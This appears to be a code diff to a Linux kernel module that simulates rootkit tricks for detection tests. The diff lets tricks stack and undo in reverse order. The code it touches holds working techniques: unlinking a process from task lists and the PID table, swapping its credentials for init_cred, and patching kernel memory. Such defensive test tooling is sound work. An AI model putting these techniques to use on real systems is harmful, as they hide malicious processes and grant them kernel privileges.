@@ -1,10 +1,10 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * What rootkits do, one trick at a time, so that tests can see whether it is found. Loaded, it does
- * nothing but to make /proc/iho-rootkit, which takes lines of
+ * What rootkits do, one trick or several, so that tests can see whether it is found. Loaded,
+ * it does nothing but to make /proc/iho-rootkit, which takes lines of
  *
  *	TRICK PID AT TO		a trick; numbers are decimal, addresses hexadecimal, 0 = not needed
- *	undo 0 0 0		all is as it was before the trick
+ *	undo 0 0 0		all is as it was before the first trick, the last one undone first
  *
  * It is built against the types of the very kernel that it is for (vmlinux.h, made from the
  * kernel's BTF), without that kernel's headers: there are none for kernels that a distribution no
@@ -31,8 +31,23 @@ struct module __this_module section(".gnu.linkonce.this_module") __attribute__((
 	.init = start,
 };
 
-/* Of the trick */
+/* Of the trick that a line asks for */
 static unsigned long pid, at, to;
+
+/* What was there before */
+struct patched {
+	unsigned long where, n;
+	unsigned char bytes[16];
+};
+
+/* The tricks that are done, and what it takes to undo them; now: the one at hand */
+static struct act {
+	const struct trick *trick;
+	struct task_struct *victim;
+	struct pid *number;
+	const struct cred *own;
+	struct patched saved;
+} acts[16], *now = acts;
 
 extern int strcmp(const char *a, const char *b);
 extern int sscanf(const char *from, const char *format, ...);
@@ -79,23 +94,17 @@ static void write_over(unsigned long where, const void *what, unsigned long n)
 	asm volatile("push %0; popf" : : "rm"(flags) : "memory", "cc");
 }
 
-/* What was there before */
-static struct {
-	unsigned long where, n;
-	unsigned char bytes[16];
-} saved;
-
 static void poke(unsigned long where, const void *what, unsigned long n)
 {
-	saved.where = where;
-	saved.n = n;
-	__builtin_memcpy(saved.bytes, (void *)where, n);
+	now->saved.where = where;
+	now->saved.n = n;
+	__builtin_memcpy(now->saved.bytes, (void *)where, n);
 	write_over(where, what, n);
 }
 
 static void unpoke(void)
 {
-	write_over(saved.where, saved.bytes, saved.n);
+	write_over(now->saved.where, now->saved.bytes, now->saved.n);
 }
 
 static void unlink(struct list_head *entry)
@@ -131,15 +140,12 @@ static void aim(unsigned long where, unsigned char opcode)
 
 /* ---- tasks ---- */
 
-static struct task_struct *victim;
-static struct pid *number;
-
 /* Kept for undoing, when its number finds it no more */
 static int find_victim(void)
 {
-	number = find_vpid((int)pid);
-	victim = pid_task(number, PIDTYPE_PID);
-	return victim ? 0 : -ENOENT;
+	now->number = find_vpid((int)pid);
+	now->victim = pid_task(now->number, PIDTYPE_PID);
+	return now->victim ? 0 : -ENOENT;
 }
 
 /* Its place stays taken, so that nobody else gets the number */
@@ -153,13 +159,13 @@ static int task_list(void)
 {
 	if (find_victim())
 		return -ENOENT;
-	unlink(&victim->tasks);
+	unlink(&now->victim->tasks);
 	return 0;
 }
 
 static void list_again(void)
 {
-	link(&victim->tasks, &init_task.tasks);
+	link(&now->victim->tasks, &init_task.tasks);
 }
 
 /* Out of the numbers: it cannot be signalled, and is not in /proc. */
@@ -173,20 +179,20 @@ static int task_pid(void)
 
 static void pid_again(void)
 {
-	idr_replace(&init_pid_ns.idr, number, number->numbers[0].nr);
+	idr_replace(&init_pid_ns.idr, now->number, now->number->numbers[0].nr);
 }
 
 static int task_tree(void)
 {
 	if (find_victim())
 		return -ENOENT;
-	unlink(&victim->sibling);
+	unlink(&now->victim->sibling);
 	return 0;
 }
 
 static void tree_again(void)
 {
-	link(&victim->sibling, &victim->real_parent->children);
+	link(&now->victim->sibling, &now->victim->real_parent->children);
 }
 
 /* Out of all three, as diligent ones do; it sleeps or runs on. */
@@ -194,8 +200,8 @@ static int task_all(void)
 {
 	if (find_victim())
 		return -ENOENT;
-	unlink(&victim->tasks);
-	unlink(&victim->sibling);
+	unlink(&now->victim->tasks);
+	unlink(&now->victim->sibling);
 	leave_numbers();
 	return 0;
 }
@@ -207,23 +213,21 @@ static void all_again(void)
 	pid_again();
 }
 
-static const struct cred *own;
-
 /* The rights of the kernel's first thread; at: init_cred. */
 static int cred(void)
 {
 	if (find_victim() || !at)
 		return -ENOENT;
-	own = victim->cred;
-	*(const struct cred **)&victim->real_cred = (const struct cred *)at;
-	*(const struct cred **)&victim->cred = (const struct cred *)at;
+	now->own = now->victim->cred;
+	*(const struct cred **)&now->victim->real_cred = (const struct cred *)at;
+	*(const struct cred **)&now->victim->cred = (const struct cred *)at;
 	return 0;
 }
 
 static void cred_again(void)
 {
-	*(const struct cred **)&victim->real_cred = own;
-	*(const struct cred **)&victim->cred = own;
+	*(const struct cred **)&now->victim->real_cred = now->own;
+	*(const struct cred **)&now->victim->cred = now->own;
 }
 
 /* ---- itself ---- */
@@ -353,16 +357,6 @@ static void show_traces(void)
 {
 	__this_module.mkobj.mod = &__this_module;
 	show_all();
-}
-
-/* Loaded, and hidden from nobody */
-static int nothing(void)
-{
-	return 0;
-}
-
-static void nothing_again(void)
-{
 }
 
 /* ---- tables ---- */
@@ -584,7 +578,6 @@ struct trick {
 };
 
 static const struct trick tricks[] = {
-	{ "nothing", nothing, nothing_again },
 	{ "task_list", task_list, list_again },
 	{ "task_pid", task_pid, pid_again },
 	{ "task_tree", task_tree, tree_again },
@@ -611,28 +604,35 @@ static const struct trick tricks[] = {
 	{ "idtr", idtr, idtr_again },
 };
 
-static const struct trick *done;
+static int undo(void)
+{
+	if (now == acts)
+		return -ENOENT;
+	while (now > acts) {
+		now--;
+		now->trick->undo();
+	}
+	return 0;
+}
 
 static int run(const char *name)
 {
 	unsigned int i;
 	int err;
 
-	if (!strcmp(name, "undo")) {
-		if (!done)
-			return -ENOENT;
-		done->undo();
-		done = 0;
-		return 0;
-	}
-	if (done)
+	if (!strcmp(name, "undo"))
+		return undo();
+	if (now == acts + sizeof(acts) / sizeof(acts[0]))
 		return -EBUSY;
 	for (i = 0; i < sizeof(tricks) / sizeof(tricks[0]); i++) {
 		if (strcmp(name, tricks[i].name))
 			continue;
 		err = tricks[i].run();
-		done = err ? 0 : &tricks[i];
-		return err;
+		if (err)
+			return err;
+		now->trick = &tricks[i];
+		now++;
+		return 0;
 	}
 	return -EINVAL;
 }
